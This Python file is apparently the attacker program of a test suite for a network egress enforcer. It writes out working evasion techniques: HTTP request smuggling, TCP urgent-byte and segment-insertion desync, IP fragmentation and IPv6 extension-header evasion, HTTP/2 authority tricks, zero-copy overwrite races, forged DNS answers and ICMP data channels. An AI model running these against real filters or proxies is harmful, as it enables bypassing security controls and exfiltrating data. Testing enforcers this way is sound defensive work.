#!/usr/bin/env python3
"""tests/attack/attack.py — the attacker of the attack suite (issue 16). It runs inside the protected (pod)
namespace as uid 1000 with exactly the capabilities its technique needs (lib.sh's attack() starts it through
setpriv and passes --caps; the program checks its own uid and effective capability set first and refuses to run
with anything more or less). Each technique puts a unique marker into the bytes it tries to get to the server in
the other namespace; the test then asks the server's records whether the marker arrived (tests/attack/sink.py).
Python 3 standard library only: packets are crafted with struct.

usage: attack.py --caps CAPS --marker M TECHNIQUE [ARGS...]   (attack.py TECHNIQUE --help for each technique)
The exit status says only whether the program ran; what the server received is the verdict.
"""
import argparse, os, random, select, socket, ssl, struct, sys, time

CAP_BITS = {"setgid": 6, "setuid": 7, "net_admin": 12, "net_raw": 13}
ETH_P_ALL, ETH_P_IP, ETH_P_IPV6 = 0x0003, 0x0800, 0x86DD
PACKET_OUTGOING = 4
SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
SRC_PORTS = (40000, 40999)  # crafted TCP flows: lib.sh drops the pod kernel's own RSTs from this range
MARKER = ""


def log(*a):
    print(*a, flush=True)


def check_identity(caps):
    """Refuse to run unless uid/gid are 1000 and the effective set is exactly CAPS (comma list or "none")."""
    want = 0
    for c in caps.split(","):
        if c and c != "none":
            want |= 1 << CAP_BITS[c]
    st = {}
    for line in open("/proc/self/status"):
        k, _, v = line.partition(":")
        st[k] = v.split()
    uids, gids, eff = st["Uid"], st["Gid"], int(st["CapEff"][0], 16)
    if set(uids) != {"1000"} or set(gids) != {"1000"} or eff != want or int(st["CapAmb"][0], 16) != want:
        sys.exit("attack.py: wrong identity: uid %s gid %s CapEff %x CapAmb %s, want uid 1000 and %x"
                 % (uids, gids, eff, st["CapAmb"][0], want))
    log("identity: uid 1000, CapEff %016x (%s)" % (eff, caps))


# ---------------------------------------------------------------- packet crafting (struct only)
def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def is6(addr):
    return ":" in addr


def a2b(addr):
    return socket.inet_pton(socket.AF_INET6 if is6(addr) else socket.AF_INET, addr)


def pseudo(src, dst, proto, length):
    if is6(src):
        return a2b(src) + a2b(dst) + struct.pack("!IxxxB", length, proto)
    return a2b(src) + a2b(dst) + struct.pack("!xBH", proto, length)


def tcp(src, dst, sport, dport, seq, ack, flags, payload=b"", urg=0, opts=b""):
    opts += b"\0" * (-len(opts) % 4)
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, (5 + len(opts) // 4) << 4, flags, 64240, 0, urg) + opts
    c = csum(pseudo(src, dst, 6, len(hdr) + len(payload)) + hdr + payload)
    return hdr[:16] + struct.pack("!H", c) + hdr[18:] + payload


def udp(src, dst, sport, dport, payload):
    hdr = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
    c = csum(pseudo(src, dst, 17, len(hdr) + len(payload)) + hdr + payload) or 0xFFFF
    return hdr[:6] + struct.pack("!H", c) + payload


def ip4(src, dst, proto, payload, ident=None, frag_off=0, more=False, ttl=64):
    ident = random.randrange(65536) if ident is None else ident
    ff = (0x2000 if more else 0) | (frag_off // 8)
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, ff, ttl, proto, 0, a2b(src), a2b(dst))
    return hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:] + payload


def ip6(src, dst, nh, payload, hlim=64):
    return struct.pack("!IHBB", 6 << 28, len(payload), nh, hlim) + a2b(src) + a2b(dst) + payload


def ext_opts(nh):  # hop-by-hop or destination options header: one PadN option, 8 bytes
    return struct.pack("!BBBB4x", nh, 0, 1, 4)


def ext_frag(nh, offset=0, more=False, ident=None):
    ident = random.randrange(1 << 32) if ident is None else ident
    return struct.pack("!BxHI", nh, (offset // 8) << 3 | (1 if more else 0), ident)


def l3(src, dst, proto, l4, ext=None):
    """An IPv4 or IPv6 packet around an L4 message; ext (IPv6): list of 'hbh', 'dst', 'frag' headers first."""
    if not is6(src):
        return ip4(src, dst, proto, l4)
    nh, body = proto, l4
    for e in reversed(ext or []):
        body = {"hbh": ext_opts, "dst": ext_opts, "frag": ext_frag}[e](nh) + body
        nh = {"hbh": 0, "dst": 60, "frag": 44}[e]
    return ip6(src, dst, nh, body)


def fragments(src, dst, proto, l4, first):
    """l4 as two IP fragments (the first carries `first` bytes, a multiple of 8)."""
    if not is6(src):
        ident = random.randrange(65536)
        return [ip4(src, dst, proto, l4[:first], ident, 0, True), ip4(src, dst, proto, l4[first:], ident, first)]
    ident = random.randrange(1 << 32)
    return [ip6(src, dst, 44, ext_frag(proto, 0, True, ident) + l4[:first]),
            ip6(src, dst, 44, ext_frag(proto, first, False, ident) + l4[first:])]


class Raw:
    """Sends finished IP packets through an IP_HDRINCL socket (IPv4 IPPROTO_RAW; IPv6 IPPROTO_RAW = hdrincl)."""

    def __init__(self, v6):
        self.v6 = v6
        self.s = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(self, pkt):
        if self.v6:
            self.s.sendto(pkt, (socket.inet_ntop(socket.AF_INET6, pkt[24:40]), 0))
        else:
            self.s.sendto(pkt, (socket.inet_ntop(socket.AF_INET, pkt[16:20]), 0))


class Packet:
    """Sends IP packets as Ethernet frames through an AF_PACKET socket on IFACE (the IP stack never sees them)."""

    def __init__(self, iface, dmac, bypass=False):
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        self.s.bind((iface, 0))
        if bypass:
            self.s.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
        smac = open("/sys/class/net/%s/address" % iface).read().strip()
        self.eth = bytes.fromhex(dmac.replace(":", "")) + bytes.fromhex(smac.replace(":", ""))

    def send(self, pkt):
        et = ETH_P_IPV6 if pkt[0] >> 4 == 6 else ETH_P_IP
        self.s.send(self.eth + struct.pack("!H", et) + pkt)


class Sniffer:
    """Incoming TCP segments on IFACE (AF_PACKET, receive only): for handshakes the attacker crafts itself."""

    def __init__(self, iface):
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.s.bind((iface, 0))

    def wait_tcp(self, peer, pport, lport, flags, timeout=2.0):
        end = time.time() + timeout
        while time.time() < end:
            r, _, _ = select.select([self.s], [], [], max(0.0, end - time.time()))
            if not r:
                break
            frame, addr = self.s.recvfrom(65536)
            if addr[2] == PACKET_OUTGOING:
                continue
            et = struct.unpack("!H", frame[12:14])[0]
            p = frame[14:]
            if et == ETH_P_IP and not is6(peer) and p[9] == 6 and p[12:16] == a2b(peer):
                seg = p[(p[0] & 15) * 4:]
            elif et == ETH_P_IPV6 and is6(peer) and p[6] == 6 and p[8:24] == a2b(peer):
                seg = p[40:]
            else:
                continue
            sp, dp, seq, ack, _, fl = struct.unpack("!HHIIBB", seg[:14])
            if sp == pport and dp == lport and fl & flags == flags:
                return seq, ack
        return None


def ts_opt(val, echo=0):  # NOP NOP Timestamps
    return struct.pack("!BBBBII", 1, 1, 8, 10, val & 0xFFFFFFFF, echo)


def tcp_exchange(sender, src, dst, dport, payload, iface="vp0", ext=None, frag_at=None, urg_at=None, decoy=None,
                 insertion="old"):
    """A TCP connection the attacker crafts itself: SYN, (SYN-ACK seen on IFACE), ACK, then payload in one
    segment (IPv6 extension headers ext, or cut into two IP fragments at frag_at, or with the urgent pointer
    after byte urg_at). Returns whether the handshake completed."""
    sn = Sniffer(iface)
    sport = random.randint(*SRC_PORTS)
    iss = random.randrange(1 << 32)
    paws = decoy and insertion == "paws"
    ts = random.randrange(1 << 20, 1 << 30)
    syn = l3(src, dst, 6, tcp(src, dst, sport, dport, iss, 0, 0x02, opts=ts_opt(ts) if paws else b""), ext)
    sender.send(syn)
    got = sn.wait_tcp(dst, dport, sport, 0x12, 1.0)
    if got is None:  # the server side may still be resolving the pod's address: one retransmission
        sender.send(syn)
        got = sn.wait_tcp(dst, dport, sport, 0x12, 1.5)
    if got is None:
        log("no SYN-ACK from %s:%d (the SYN did not get out, or no answer)" % (dst, dport))
        return False
    rcv = (got[0] + 1) & 0xFFFFFFFF
    if decoy and insertion == "gap":
        # The stream's start moved: the handshake's ACK claims the first byte is len(payload) further on, the
        # decoy sits there (the server queues it out of order), and once it decided the flow the real first
        # flight fills the gap before it: the server reads the real bytes first, then the decoy.
        start = (iss + 1 + len(payload)) & 0xFFFFFFFF
        sender.send(l3(src, dst, 6, tcp(src, dst, sport, dport, start, rcv, 0x10), ext))
        sender.send(l3(src, dst, 6, tcp(src, dst, sport, dport, start, rcv, 0x18, decoy), ext))
        time.sleep(0.3)
        sender.send(l3(src, dst, 6, tcp(src, dst, sport, dport, iss + 1, rcv, 0x18, payload), ext))
        acked = sn.wait_tcp(dst, dport, sport, 0x10, 1.0)
        log("gap: %s" % ("acknowledged" if acked else "not acknowledged"))
        return True
    sender.send(l3(src, dst, 6, tcp(src, dst, sport, dport, iss + 1, rcv, 0x10, opts=ts_opt(ts + 1) if paws else b""),
                   ext))
    if decoy:
        # An allowed first flight the server's TCP drops and a reader of the client's packets does not: "old" ends
        # where the stream begins (a duplicate to the server); "paws" sits at the stream's start but carries a
        # timestamp older than the handshake's (RFC 7323 PAWS: the server discards it); "badsum" sits at the
        # stream's start with a wrong TCP checksum.
        seq, opts = ((iss + 1 - len(decoy)) & 0xFFFFFFFF, b"") if insertion == "old" else (iss + 1, b"")
        if paws:
            opts = ts_opt(ts - 100000)
        seg = tcp(src, dst, sport, dport, seq, rcv, 0x18, decoy, opts=opts)
        if insertion == "badsum":  # "bad checksum": a receiver that verifies checksums drops it
            seg = seg[:16] + struct.pack("!H", struct.unpack("!H", seg[16:18])[0] ^ 0x5555) + seg[18:]
        sender.send(l3(src, dst, 6, seg, ext))
        time.sleep(0.3)
    flags, urg = 0x18, 0
    if urg_at is not None:
        flags, urg = 0x38, urg_at
    seg = tcp(src, dst, sport, dport, iss + 1, rcv, flags, payload, urg, opts=ts_opt(ts + 2) if paws else b"")
    if frag_at is not None:
        for f in fragments(src, dst, 6, seg, frag_at):
            sender.send(f)
    else:
        sender.send(l3(src, dst, 6, seg, ext))
    acked = sn.wait_tcp(dst, dport, sport, 0x10, 1.0)
    log("handshake done, payload %s" % ("acknowledged" if acked and acked[1] == (iss + 1 + len(payload)) & 0xFFFFFFFF
                                        else "not acknowledged"))
    return True


# ---------------------------------------------------------------- TLS ClientHellos
def python_hello(sni):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_hostname=sni)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def hello_split(h):
    """(prefix up to the extensions, list of (type, data)) of a one-record ClientHello."""
    p = 5 + 4 + 2 + 32
    p += 1 + h[p]
    p += 2 + struct.unpack("!H", h[p:p + 2])[0]
    p += 1 + h[p]
    end = p + 2 + struct.unpack("!H", h[p:p + 2])[0]
    exts, q = [], p + 2
    while q < end:
        t, n = struct.unpack("!HH", h[q:q + 4])
        exts.append((t, h[q + 4:q + 4 + n]))
        q += 4 + n
    return h[:p], exts


def hello_join(prefix, exts):
    body = b"".join(struct.pack("!HH", t, len(d)) + d for t, d in exts)
    hs = prefix[9:] + struct.pack("!H", len(body)) + body
    return prefix[:3] + struct.pack("!H", len(hs) + 4) + b"\x01" + struct.pack("!I", len(hs))[1:] + hs


def sni_ext(*names):
    lst = b"".join(b"\0" + struct.pack("!H", len(n)) + n.encode() for n in names)
    return struct.pack("!H", len(lst)) + lst


def client_hello(sni_lists, source="python", marker=""):
    """A real ClientHello (Python's ssl, or a captured client's from first-flights/) whose server_name extensions
    are replaced by one extension per entry of sni_lists (each a list of names); the marker is written into the
    client random, so the server's records show whether this hello arrived."""
    if source == "python":
        h = python_hello("placeholder.example")
    else:
        h = open(source, "rb").read()
    prefix, exts = hello_split(h)
    at = next(i for i, (t, _) in enumerate(exts) if t == 0)
    exts[at:at + 1] = [(0, sni_ext(*names)) for names in sni_lists]
    prefix = prefix[:11] + marker.encode().ljust(32, b".")[:32] + prefix[43:]
    return hello_join(prefix, exts)


# ---------------------------------------------------------------- techniques
BIND_DEV = None


def bind_dev(s):
    if BIND_DEV:  # unprivileged since Linux 5.7 while the socket is not bound to a device yet
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, BIND_DEV.encode())


def connect(dst, port, mark=None, bind_port=None, timeout=3):
    s = socket.socket(socket.AF_INET6 if is6(dst) else socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    bind_dev(s)
    if mark is not None:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, mark)
        log("SO_MARK %#x set" % mark)
    if bind_port:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("", bind_port))
    s.settimeout(timeout)
    s.connect((dst, port))
    return s


def read_some(s, timeout=1.5):
    s.settimeout(timeout)
    data = b""
    try:
        while b"\r\n\r\n" not in data:
            d = s.recv(4096)
            if not d:
                break
            data += d
    except OSError as e:
        log("read: %s" % e)
    log("server said: %r" % data[:60])
    return data


def send_and_read(dst, port, payloads, mark=None):
    try:
        s = connect(dst, port, mark)
        for p in payloads:
            s.sendall(p)
        read_some(s)
        s.close()
    except OSError as e:
        log("tcp %s:%d: %s" % (dst, port, e))


def drop_identity(uid):
    if uid is not None:
        os.setresuid(uid, uid, uid)
        log("setresuid(%d): now uid %d" % (uid, os.getuid()))


def t_http(a):
    drop_identity(a.setuid)
    req = ("GET %s/%s HTTP/1.1\r\nHost: %s\r\nUser-Agent: attack\r\n\r\n" % (a.path, MARKER, a.host)).encode()
    send_and_read(a.dst, a.port, [req], a.mark)


def t_tcp(a):
    drop_identity(a.setuid)
    send_and_read(a.dst, a.port, [("raw tcp %s\n" % MARKER).encode()], a.mark)


def t_udp(a):
    drop_identity(a.setuid)
    s = socket.socket(socket.AF_INET6 if is6(a.dst) else socket.AF_INET, socket.SOCK_DGRAM)
    bind_dev(s)
    if a.mark is not None:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, a.mark)
        log("SO_MARK %#x set" % a.mark)
    data = ("udp %s\n" % MARKER).encode()
    for _ in range(3):
        try:
            if a.cmsg_mark is not None:
                s.sendmsg([data], [(socket.SOL_SOCKET, socket.SO_MARK, struct.pack("I", a.cmsg_mark))],
                           0, (a.dst, a.port))
            else:
                s.sendto(data, (a.dst, a.port))
        except OSError as e:
            log("sendto: %s" % e)
        time.sleep(0.05)


def t_tls(a):
    hello = client_hello([[n for n in a.sni.split(",")]] if not a.two_ext else [[n] for n in a.sni.split(",")],
                         a.hello, MARKER)
    send_and_read(a.dst, a.port, [hello], a.mark)


def t_upgrade(a):
    """Leak 5: an allowed request with Upgrade the server refuses (200, not 101), then another Host."""
    s = connect(a.dst, a.port)
    s.sendall(("GET /get/%s-first HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
               "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
               % (a.control, a.host)).encode())
    read_some(s)
    try:
        s.sendall(a.lead.encode().decode("unicode_escape").encode("latin-1") + smuggled(a.evil))
    except OSError as e:
        log("second request: %s" % e)
    read_some(s)


def oob_send(s, before, urgent, after):
    s.sendall(before)
    time.sleep(0.1)
    s.send(urgent, socket.MSG_OOB)
    time.sleep(0.1)
    s.sendall(after)


def smuggled(host, path=""):
    return ("GET %s/%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (path, MARKER, host)).encode()


def t_oob(a):
    """Leak 6 / closed route: one urgent byte the server's TCP removes from the stream (SO_OOBINLINE off), so the
    server reads a shorter length than the enforcer and a request the enforcer took for body.
    where=body: in the chunk size of a chunked body after an allowed head (enforcer 0x150, server 0x10).
    where=second: in the Content-Length of the second request on a keep-alive connection (150 vs 10).
    where=first: in the Content-Length of the first request (the first flight)."""
    s = connect(a.dst, a.port)
    hidden = smuggled(a.evil)
    if a.where == "body":
        s.sendall(("POST /get/%s-first HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\n\r\n"
                   % (a.control, a.host)).encode())
        time.sleep(0.3)
        # server: chunk 0x10 (16 bytes), CRLF, last chunk, then `hidden`; enforcer: one chunk of 0x150 bytes
        tail = b"A" * 16 + b"\r\n0\r\n\r\n" + hidden
        tail += b"B" * (0x150 - len(tail))
        oob_send(s, b"1", b"5", b"0\r\n" + tail + b"\r\n0\r\n\r\n")
    else:
        head = "POST /get/%s HTTP/1.1\r\nHost: %s\r\nContent-Length: 1" % (a.control, a.host)
        if a.where == "second":
            s.sendall(("GET /get/%s-first HTTP/1.1\r\nHost: %s\r\n\r\n" % (a.control, a.host)).encode())
            read_some(s)
            head = head.replace(a.control, a.control + "-second")
        body = b"A" * 10 + hidden
        body += b"B" * (150 - len(body))
        oob_send(s, head.encode(), b"5", b"0\r\n\r\n" + body)
    read_some(s)


def t_smuggle(a):
    """Closed routes: request smuggling on an allowed Host, as the first request or the second on a connection."""
    h, e, m = a.host, a.evil, MARKER
    hidden = smuggled(e).decode()
    reqs = {
        "two-host": "GET /get/%s HTTP/1.1\r\nHost: %s\r\nHost: %s\r\n\r\n" % (m, h, e),
        "absolute": "GET http://%s/get/%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (e, m, h),
        "cl-te": "POST /get/x HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n"
                 "0\r\n\r\n%s" % (h, 5 + len(hidden), hidden),
        "te-cl": "POST /get/x HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n"
                 "%x\r\n%s\r\n0\r\n\r\n" % (h, len(hidden), hidden),
        "te-obfuscated": "POST /get/x HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nTransfer-Encoding : chunked\r\n"
                         "\r\n0\r\n\r\n%s" % (h, 5 + len(hidden), hidden),
        "get-body": "GET /get/x HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n%s" % (h, len(hidden), hidden),
        "pipeline": "GET /get/x HTTP/1.1\r\nHost: %s\r\n\r\n%s" % (h, hidden),
        "two-cl": "POST /get/x HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\nContent-Length: %d\r\n\r\n%s"
                  % (h, len(hidden), hidden),
    }
    s = connect(a.dst, a.port)
    if a.second:
        s.sendall(("GET /get/%s-first HTTP/1.1\r\nHost: %s\r\n\r\n" % (a.control, h)).encode())
        read_some(s)
    try:
        s.sendall(reqs[a.variant].encode())
    except OSError as e:
        log("send: %s" % e)
    read_some(s)


def t_zerocopy(a):
    """Leak hunting, no privilege: MSG_ZEROCOPY sends from the process's own pages. The allowed first flight is
    sent, then the same pages are overwritten at once with a denied one of the same length: a reader that looked
    at the packet while it was held (the enforcer) and the server that receives it later may see different bytes."""
    import mmap
    if a.proto == "tls":
        good = client_hello([[a.host]], "python", a.control)
        evil = client_hello([[(MARKER + "." + a.evil)[-len(a.host):]]], "python", MARKER)
        if a.pad:  # a padding extension makes the send large enough for page fragments
            good = hello_join(*(lambda p, e: (p, e + [(21, b"\0" * a.pad)]))(*hello_split(good)))
            evil = hello_join(*(lambda p, e: (p, e + [(21, b"\0" * a.pad)]))(*hello_split(evil)))
        evil = evil[:len(good)]
    else:
        good = ("GET /get/%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (a.control, a.host)).encode()
        evil = ("GET /%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (MARKER, a.evil)).encode()
        evil = evil.ljust(len(good), b" ")[:len(good)] if len(evil) <= len(good) else evil
        good = good.replace(b"\r\n\r\n", b"\r\nX: " + b"x" * max(0, len(evil) - len(good) - 5) + b"\r\n\r\n") \
            if len(evil) > len(good) else good
    assert len(good) == len(evil), (len(good), len(evil))
    s = connect(a.dst, a.port)
    if a.sendfile:  # the page cache's pages are sent by reference: write the file again right after sendfile()
        import tempfile
        fd, path = tempfile.mkstemp()
        os.unlink(path)
        os.pwrite(fd, good, 0)
        n = os.sendfile(s.fileno(), fd, 0, len(good))
        os.pwrite(fd, evil, 0)
        log("sent %d bytes with sendfile(), then wrote the file again" % n)
    else:
        buf = mmap.mmap(-1, 1 << 16)
        buf[:len(good)] = good
        s.setsockopt(socket.SOL_SOCKET, 60, 1)  # SO_ZEROCOPY
        view = memoryview(buf)[:len(good)]
        n = s.send(view, 0x4000000)  # MSG_ZEROCOPY
        buf[:len(evil)] = evil
        view.release()
        log("sent %d bytes with MSG_ZEROCOPY, then overwrote them" % n)
    read_some(s)


def h2_frame(ftype, flags, stream, payload):
    return struct.pack("!I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack("!I", stream) + payload


def hpack_str(v):
    v = v.encode()
    assert len(v) < 127
    return bytes([len(v)]) + v


def h2_headers(authority, path, extra=()):
    """An HPACK block without Huffman or indexing: GET, http, :authority, :path, then extra (name, value) pairs."""
    block = b"\x82\x86" + b"\x01" + hpack_str(authority) + b"\x04" + hpack_str(path)
    for n, v in extra:
        block += b"\x00" + hpack_str(n) + hpack_str(v)
    return block


def t_h2(a):
    """HTTP/2 with prior knowledge (h2c) on the HTTP port: the enforcer's HTTP/2 reader against requests whose
    :authority, Host or header-block framing names a denied host."""
    pre = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
    ok = h2_frame(1, 0x05, 1, h2_headers(a.host, "/get/%s" % a.control))  # END_STREAM | END_HEADERS
    evil_path = "/get/%s" % MARKER
    v = a.variant
    if v == "authority":
        flights = [pre + h2_frame(1, 0x05, 1, h2_headers(a.evil, evil_path))]
    elif v == "second-stream":
        flights = [pre + ok, h2_frame(1, 0x05, 3, h2_headers(a.evil, evil_path))]
    elif v == "same-segment":
        flights = [pre + ok + h2_frame(1, 0x05, 3, h2_headers(a.evil, evil_path))]
    elif v == "host-header":
        flights = [pre + h2_frame(1, 0x05, 1, h2_headers(a.host, evil_path, [("host", a.evil)]))]
    elif v == "continuation":  # :authority allowed in HEADERS, a second :authority in CONTINUATION
        block = h2_headers(a.host, evil_path) + b"\x01" + hpack_str(a.evil)
        flights = [pre + h2_frame(1, 0x01, 1, block[:12]) + h2_frame(9, 0x04, 1, block[12:])]
    elif v == "ok":
        flights = [pre + h2_frame(1, 0x05, 1, h2_headers(a.host, evil_path))]
    else:
        sys.exit("unknown variant " + v)
    s = connect(a.dst, a.port)
    for f in flights:
        try:
            s.sendall(f)
        except OSError as e:
            log("send: %s" % e)
        time.sleep(0.2)
    read_some(s, 1.0)


def t_reuse(a):
    """Leak 7: an allowed TLS connection the server resets, then a new connection from the same source port whose
    first flight is a ClientHello for a denied name (the marker in its client random and in the name)."""
    port = random.randint(*SRC_PORTS)
    s = connect(a.dst, a.port, bind_port=port)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    s.sendall(client_hello([[a.sni]], a.hello, a.control))
    read_some(s)  # the server resets the connection
    s.close()
    time.sleep(0.2)
    s = connect(a.dst, a.port, bind_port=port)
    log("reconnected from port %d" % port)
    s.sendall(client_hello([["%s.%s" % (MARKER, a.evil)]], a.hello, MARKER))
    read_some(s)


def t_packet(a):
    """Leak 3: frames written to an AF_PACKET socket (UDP, or a whole TCP connection crafted by hand)."""
    sender = Packet(a.iface, a.dmac, a.bypass)
    data = ("packet %s\n" % MARKER).encode()
    if a.proto == "udp":
        for _ in range(3):
            sender.send(l3(a.src, a.dst, 17, udp(a.src, a.dst, a.sport or random.randint(*SRC_PORTS), a.port, data)))
            time.sleep(0.05)
    else:
        tcp_exchange(sender, a.src, a.dst, a.port, smuggled(a.evil, a.path), a.iface)


def t_raw(a):
    """Closed routes: IP_HDRINCL sockets (IPv6 optionally with extension headers, or a first flight cut into IP
    fragments)."""
    sender = Raw(is6(a.src))
    ext = a.ext.split(",") if a.ext else None
    if a.proto == "udp":
        dg = udp(a.src, a.dst, random.randint(*SRC_PORTS), a.port, ("raw udp %s\n" % MARKER).encode())
        for _ in range(2):
            if a.frag:
                for f in fragments(a.src, a.dst, 17, dg, 16):
                    sender.send(f)
            else:
                sender.send(l3(a.src, a.dst, 17, dg, ext))
            time.sleep(0.05)
    elif a.lone:  # one segment with a payload and no connection: the server's TCP drops it, the host sees it
        flags = {"rst": 0x04, "rst-ack": 0x14, "fin": 0x11, "ack": 0x10, "syn": 0x02}[a.lone]
        sport, seq = random.randint(41000, 41999), random.randrange(1 << 32)  # outside the harness's RST drop
        for _ in range(2):
            sender.send(l3(a.src, a.dst, 6, tcp(a.src, a.dst, sport, a.port, seq, 0 if flags == 0x02 else 1, flags,
                                                smuggled(a.evil, a.path)), ext))
            time.sleep(0.05)
    elif a.tls_decoy:  # leak hunting: an allowed ClientHello the server never reads, then a denied one
        tcp_exchange(sender, a.src, a.dst, a.port, client_hello([["%s.%s" % (MARKER, a.evil)]], "python", MARKER),
                     decoy=client_hello([[a.tls_decoy]], "python", a.control), insertion=a.insertion)
    elif a.http_decoy:
        tcp_exchange(sender, a.src, a.dst, a.port, smuggled(a.evil, a.path),
                     decoy=("GET /get/%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (a.control, a.http_decoy)).encode(),
                     insertion=a.insertion)
    else:
        tcp_exchange(sender, a.src, a.dst, a.port, smuggled(a.evil, a.path), ext=ext, frag_at=24 if a.frag else None)


def dns_question(name, qtype):
    return b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0" + struct.pack("!HH", qtype, 1)


def dns_query(name, qtype, qid=0x4242):
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + dns_question(name, qtype)


def dns_answer(name, addr, qid=0x4242, ttl=3600):
    """A DNS response: one question (NAME, A or AAAA) and one answer binding NAME to ADDR."""
    qtype = 28 if is6(addr) else 1
    rdata = a2b(addr)
    return (struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0) + dns_question(name, qtype) + b"\xc0\x0c" +
            struct.pack("!HHIH", qtype, 1, ttl, len(rdata)) + rdata)


def t_dnsforge(a):
    """Issue 17: a forged DNS answer binding an allowed name to the attacker's address, from the resolver's
    address and port 53 to the pod itself (IP_HDRINCL: it travels on lo), then a first flight with that name to
    the attacker's address: the enforcer must not have learned the answer."""
    sender = Raw(is6(a.src))
    # First a real query to the resolver from an ordinary socket: conntrack then holds the flow, and the forged
    # answer to that port is its "established" reply (what a spoofer elsewhere would have to guess).
    q = socket.socket(socket.AF_INET6 if is6(a.src) else socket.AF_INET, socket.SOCK_DGRAM)
    q.sendto(dns_query(a.name, 28 if is6(a.to) else 1), (a.src, 53))
    qport = q.getsockname()[1]
    for port in (qport, a.port, 53):
        for _ in range(3):
            sender.send(l3(a.src, a.dst, 17, udp(a.src, a.dst, 53, port, dns_answer(a.name, a.to)), None))
    log("forged answers: %s -> %s, from %s:53 to %s (the query left from port %d)" % (a.name, a.to, a.src, a.dst,
                                                                                      qport))
    time.sleep(0.2)
    send_and_read(a.to, 443, [client_hello([[a.name]], "python", MARKER)], None)


def t_icmp(a):
    """ICMP/ICMPv6 messages with a payload: echo requests (raw socket, or the unprivileged ping socket) and
    neighbour-discovery messages (type 133/135/136) carrying data."""
    data = ("icmp %s " % MARKER).encode().ljust(48, b".")
    v6 = is6(a.dst)
    kind = socket.SOCK_DGRAM if a.ping_socket else socket.SOCK_RAW
    s = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET, kind,
                      socket.IPPROTO_ICMPV6 if v6 else socket.IPPROTO_ICMP)
    if v6:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, a.hlim)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, a.hlim)
    if a.type == "echo":
        msg = struct.pack("!BBHHH", 128 if v6 else 8, 0, 0, random.randrange(65536), 1) + data
        if not v6:
            msg = msg[:2] + struct.pack("!H", csum(msg)) + msg[4:]
    else:
        t = {"rs": 133, "ns": 135, "na": 136}[a.type]
        body = b"\0" * 4 if t == 133 else (b"\x60\0\0\0" if t == 136 else b"\0" * 4) + a2b(a.dst)
        opt = b"\x01\x01" + bytes.fromhex(open("/sys/class/net/vp0/address").read().strip().replace(":", ""))
        pad = data + b"\0" * (-(len(data) + 2) % 8)
        msg = struct.pack("!BBH", t, 0, 0) + body + opt + bytes([200, (len(pad) + 2) // 8]) + pad
    if a.ext:  # the payload in an options header before a well-formed 32-byte ND message (IP_HDRINCL)
        src = a2b(a.src)
        msg = msg[:4] + body + opt  # the message alone, no payload option
        c = csum(src + a2b(a.dst) + struct.pack("!IxxxB", len(msg), 58) + msg)
        msg = msg[:2] + struct.pack("!H", c) + msg[4:]
        val = data + b"\0" * (-(len(data) + 4) % 8)
        hdr = struct.pack("!BBBB", 58, (len(val) + 4) // 8 - 1, 0x1E, len(val)) + val  # option 0x1e: skip
        pkt = ip6(a.src, a.dst, {"hbh": 0, "dst": 60}[a.ext], hdr + msg, a.hlim)
        s = Raw(True)
        for _ in range(2):
            s.send(pkt)
            time.sleep(0.05)
        return
    for _ in range(2):
        try:
            s.sendto(msg, (a.dst, 0))
        except OSError as e:
            log("sendto: %s" % e)
        time.sleep(0.05)


def main():
    global MARKER, BIND_DEV
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
